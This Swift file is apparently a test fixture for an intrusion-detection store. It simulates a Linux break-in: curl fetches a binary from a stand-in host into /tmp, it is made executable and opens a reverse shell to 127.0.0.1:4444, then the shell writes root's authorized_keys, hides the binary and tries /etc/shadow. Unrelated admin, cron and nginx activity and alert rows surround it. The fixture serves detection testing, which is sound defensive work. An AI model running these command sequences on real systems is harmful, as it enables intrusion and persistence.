import Foundation
import MamoriStore

/// A fresh directory under /tmp, removed when the value is released.
final class TempDir {
    let path: String

    init() {
        path = NSTemporaryDirectory() + "mamori-story-" + UUID().uuidString
        try? FileManager.default.createDirectory(atPath: path, withIntermediateDirectories: true)
    }

    deinit { try? FileManager.default.removeItem(atPath: path) }

    var dbPath: String { path + "/mamori.db" }
}

/// A store holding a realistic intrusion and unrelated activity around it:
///
/// ```
/// systemd[1]
/// ├── sshd[800] /usr/sbin/sshd -D                    (sshd.service)
/// │   ├── bash[1201] -bash                           session leader: the attack
/// │   │   ├── curl[1202] curl -s -o /tmp/x http://203.0.113.7/x   → 203.0.113.7:80, writes /tmp/x
/// │   │   ├── chmod[1203] chmod +x /tmp/x
/// │   │   └── x[1204] /tmp/x -c "127.0.0.1:4444" ...  → 127.0.0.1:4444 (ALERT), 4445 refused
/// │   │       └── sh[1205] sh -i                     authorized_keys, rename /tmp/x, /etc/shadow denied
/// │   └── bash[2301] -bash                           session leader: an admin, unrelated
/// │       └── vim[2302] vim /etc/motd                writes /etc/motd, psql → 10.0.0.5:5432
/// ├── cron[600] /usr/sbin/cron -f                    (cron.service)
/// │   └── sh[3001] → backup.sh[3002]                 writes /var/backups/db.tar, → 10.0.0.9:873 (low alert)
/// └── containerd-shim[500] (containerd.service)
///     └── nginx[510] (nginx.service) └── nginx[511]  → 198.51.100.20:443 (alert)
/// ```
enum AttackFixture {
    static let second: Int64 = 1_000_000_000
    /// 2026-11-27T03:00:00Z.
    static let t0: Int64 = 1_795_748_400 * second

    static let incidentUUID = "6f1c2a9e-0d4b-4c1e-9a57-3e0b8f1d2c44"
    static let shellAlertUUID = "a1a1a1a1-0000-4000-8000-000000000001"
    static let downloadAlertUUID = "a2a2a2a2-0000-4000-8000-000000000002"
    static let backupAlertUUID = "a3a3a3a3-0000-4000-8000-000000000003"
    static let nginxAlertUUID = "a4a4a4a4-0000-4000-8000-000000000004"

    /// Command line of /tmp/x: quotes and a backslash, to exercise every escaper.
    static let implantCommandLine = #"/tmp/x -c "127.0.0.1:4444" -k 'a\b'"#

    static let attackEntities: Set<String> = ["E-bash", "E-curl", "E-chmod", "E-x", "E-sh"]
    static let unrelatedEntities: Set<String> = ["E-bash2", "E-vim", "E-cron", "E-cronsh", "E-backup",
                                                 "E-shim", "E-nginx", "E-nginx-w"]

    /// Writes the fixture into a new store at `path`. With `sessionLeaders: false` no process
    /// records its session leader (a store fed by a sensor that cannot see sessions).
    @discardableResult
    static func build(at path: String, sessionLeaders: Bool = true) throws -> EventStore {
        let store = try EventStore(path: path)
        var items = [StoreItem]()
        func proc(_ e: String, _ pid: UInt32, _ parent: String?, _ ppid: UInt32, _ exe: String, _ cmd: String,
                  unit: String?, leader: String?, start: UInt64, exit: Int32? = nil) {
            items.append(.process(ProcessRow(
                entityId: e, pid: pid, ppid: ppid, parentEntityId: parent, executable: exe, commandLine: cmd,
                cwd: "/root", uid: 0, startNs: start, exitNs: exit == nil ? nil : start + 1_000, exitCode: exit,
                unit: unit, sessionLeaderEntityId: sessionLeaders ? leader : nil, seenUnixNs: t0)))
        }
        proc("E-systemd", 1, nil, 0, "/usr/lib/systemd/systemd", "/sbin/init", unit: "init.scope", leader: "E-systemd", start: 1)
        proc("E-sshd", 800, "E-systemd", 1, "/usr/sbin/sshd", "/usr/sbin/sshd -D", unit: "sshd.service", leader: "E-sshd", start: 100)
        proc("E-bash", 1201, "E-sshd", 800, "/usr/bin/bash", "-bash", unit: "session-4.scope", leader: "E-bash", start: 1_000)
        proc("E-curl", 1202, "E-bash", 1201, "/usr/bin/curl", "curl -s -o /tmp/x http://203.0.113.7/x",
             unit: "session-4.scope", leader: "E-bash", start: 1_100, exit: 0)
        proc("E-chmod", 1203, "E-bash", 1201, "/usr/bin/chmod", "chmod +x /tmp/x",
             unit: "session-4.scope", leader: "E-bash", start: 1_200, exit: 0)
        proc("E-x", 1204, "E-bash", 1201, "/tmp/x", implantCommandLine, unit: "session-4.scope", leader: "E-bash", start: 1_300)
        proc("E-sh", 1205, "E-x", 1204, "/usr/bin/sh", "sh -i", unit: "session-4.scope", leader: "E-bash", start: 1_400)
        proc("E-bash2", 2301, "E-sshd", 800, "/usr/bin/bash", "-bash", unit: "session-5.scope", leader: "E-bash2", start: 900)
        proc("E-vim", 2302, "E-bash2", 2301, "/usr/bin/vim", "vim /etc/motd", unit: "session-5.scope", leader: "E-bash2", start: 950)
        proc("E-cron", 600, "E-systemd", 1, "/usr/sbin/cron", "/usr/sbin/cron -f", unit: "cron.service", leader: "E-cron", start: 90)
        proc("E-cronsh", 3001, "E-cron", 600, "/usr/bin/sh", "/bin/sh -c /usr/local/bin/backup.sh",
             unit: "cron.service", leader: "E-cronsh", start: 2_000)
        proc("E-backup", 3002, "E-cronsh", 3001, "/usr/local/bin/backup.sh", "/bin/bash /usr/local/bin/backup.sh",
             unit: "cron.service", leader: "E-cronsh", start: 2_100)
        proc("E-shim", 500, "E-systemd", 1, "/usr/bin/containerd-shim", "containerd-shim -namespace moby",
             unit: "containerd.service", leader: "E-shim", start: 80)
        proc("E-nginx", 510, "E-shim", 500, "/usr/sbin/nginx", "nginx: master process", unit: "nginx.service",
             leader: "E-nginx", start: 85)
        proc("E-nginx-w", 511, "E-nginx", 510, "/usr/sbin/nginx", "nginx: worker process", unit: "nginx.service",
             leader: "E-nginx", start: 86)

        for event in events() { items.append(.event(event)) }

        items.append(.incident(IncidentRow(incidentUUID: incidentUUID, rootEntityId: "E-bash", firstSeen: t0 + 4 * second,
                                           lastSeen: t0 + 10 * second, riskScore: 90, alertCount: 2,
                                           title: "Reverse shell from a downloaded binary")))
        items.append(.alert(AlertRow(alertUUID: downloadAlertUUID, tsUnixNs: t0 + 4 * second, ruleId: "download_to_tmp",
                                     ruleName: "Executable downloaded to /tmp", severity: "medium", riskScore: 50,
                                     tacticIds: ["TA0011"], techniqueIds: ["T1105"], entityId: "E-curl",
                                     incidentUUID: incidentUUID)))
        items.append(.alert(AlertRow(alertUUID: shellAlertUUID, tsUnixNs: t0 + 10 * second, ruleId: "linux_reverse_shell",
                                     ruleName: "Reverse shell to a raw TCP port", severity: "high", riskScore: 90,
                                     tacticIds: ["TA0002"], techniqueIds: ["T1059.004"], entityId: "E-x",
                                     incidentUUID: incidentUUID, ecsJSON: #"{"event":{"kind":"alert"}}"#)))
        items.append(.alert(AlertRow(alertUUID: backupAlertUUID, tsUnixNs: t0 + 14 * second, ruleId: "rsync_exfil",
                                     ruleName: "rsync to a remote host", severity: "low", riskScore: 20, entityId: "E-backup")))
        items.append(.alert(AlertRow(alertUUID: nginxAlertUUID, tsUnixNs: t0 + 20 * second, ruleId: "web_outbound",
                                     ruleName: "Web server connects out", severity: "medium", riskScore: 40,
                                     entityId: "E-nginx-w")))
        try store.write(items)
        return store
    }

    /// The event stream, attack and unrelated activity interleaved in time.
    static func events() -> [EventRow] {
        var out = [EventRow]()
        func ev(_ at: Double, _ kind: String, _ action: String, _ entity: String, _ pid: UInt32, _ exe: String,
                cmd: String? = nil, path: String? = nil, target: String? = nil, dst: String? = nil,
                port: UInt16? = nil, result: Int32 = 0) {
            let ts = t0 + Int64(at * 1_000) * 1_000_000
            out.append(EventRow(tsNs: UInt64(ts - t0) + 1_000_000, tsUnixNs: ts, kind: kind, action: action, pid: pid,
                                entityId: entity, executable: exe, commandLine: cmd, path: path, targetPath: target,
                                srcIP: dst == nil ? nil : "10.0.0.2", srcPort: dst == nil ? nil : 40_000,
                                dstIP: dst, dstPort: port, transport: dst == nil ? nil : "tcp", result: result,
                                uid: 0, unit: "session-4.scope"))
        }
        ev(0, "exec", "exec", "E-bash", 1201, "/usr/bin/bash", cmd: "-bash", path: "/usr/bin/bash")
        ev(1, "exec", "exec", "E-bash2", 2301, "/usr/bin/bash", cmd: "-bash", path: "/usr/bin/bash")
        ev(2, "fork", "fork", "E-curl", 1202, "/usr/bin/bash")
        ev(2.1, "exec", "exec", "E-curl", 1202, "/usr/bin/curl", cmd: "curl -s -o /tmp/x http://203.0.113.7/x", path: "/usr/bin/curl")
        ev(3, "network", "connect", "E-curl", 1202, "/usr/bin/curl", dst: "203.0.113.7", port: 80)
        ev(4, "file", "creation", "E-curl", 1202, "/usr/bin/curl", path: "/tmp/x")
        ev(4.5, "file", "open-write", "E-curl", 1202, "/usr/bin/curl", path: "/tmp/x")
        ev(5, "file", "open-write", "E-vim", 2302, "/usr/bin/vim", path: "/etc/motd")
        ev(5.5, "network", "connect", "E-vim", 2302, "/usr/bin/vim", dst: "10.0.0.5", port: 5432)
        ev(6, "exec", "exec", "E-chmod", 1203, "/usr/bin/chmod", cmd: "chmod +x /tmp/x", path: "/usr/bin/chmod")
        ev(7, "file", "chmod", "E-chmod", 1203, "/usr/bin/chmod", path: "/tmp/x")
        ev(8, "exit", "exit", "E-chmod", 1203, "/usr/bin/chmod")
        ev(9, "exec", "exec", "E-x", 1204, "/tmp/x", cmd: implantCommandLine, path: "/tmp/x")
        ev(10, "network", "connect", "E-x", 1204, "/tmp/x", dst: "127.0.0.1", port: 4444)
        ev(11, "exec", "exec", "E-sh", 1205, "/usr/bin/sh", cmd: "sh -i", path: "/usr/bin/sh")
        ev(12, "file", "open-write", "E-sh", 1205, "/usr/bin/sh", path: "/root/.ssh/authorized_keys")
        ev(13, "file", "rename", "E-sh", 1205, "/usr/bin/sh", path: "/tmp/x", target: "/tmp/.x")
        ev(14, "file", "creation", "E-backup", 3002, "/usr/local/bin/backup.sh", path: "/var/backups/db.tar")
        ev(14.5, "network", "connect", "E-backup", 3002, "/usr/local/bin/backup.sh", dst: "10.0.0.9", port: 873)
        ev(15, "file", "open-write", "E-sh", 1205, "/usr/bin/sh", path: "/etc/shadow", result: -13)
        ev(16, "network", "connect", "E-x", 1204, "/tmp/x", dst: "127.0.0.1", port: 4445, result: -111)
        ev(17, "network", "connect", "E-nginx-w", 511, "/usr/sbin/nginx", dst: "198.51.100.20", port: 443)
        return out
    }

    /// Actions of the attack's timeline, in order (execs, network, file changes; no fork/exit).
    static let expectedTimeline: [(String, String)] = [
        ("exec", "E-bash"), ("exec", "E-curl"), ("connect", "E-curl"), ("creation", "E-curl"),
        ("open-write", "E-curl"), ("exec", "E-chmod"), ("chmod", "E-chmod"), ("exec", "E-x"),
        ("connect", "E-x"), ("exec", "E-sh"), ("open-write", "E-sh"), ("rename", "E-sh"),
        ("open-write", "E-sh"), ("connect", "E-x"),
    ]
}
